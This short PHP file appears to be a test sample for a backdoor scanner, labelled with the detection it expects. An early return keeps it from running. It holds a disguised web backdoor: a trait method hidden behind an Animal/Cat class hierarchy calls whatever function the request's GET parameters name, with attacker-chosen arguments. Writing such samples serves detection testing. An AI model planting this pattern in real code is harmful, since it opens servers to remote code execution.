<?php return; // want: malicious backdoor php.call.request
trait Eats { public function eat($what, $with) { $what($with); } }
class Animal { public function eat() { echo 'grass'; } }
class Cat extends Animal { use Eats; }
$cat = new Cat();
$cat->eat($_GET['what'], $_GET['with']);
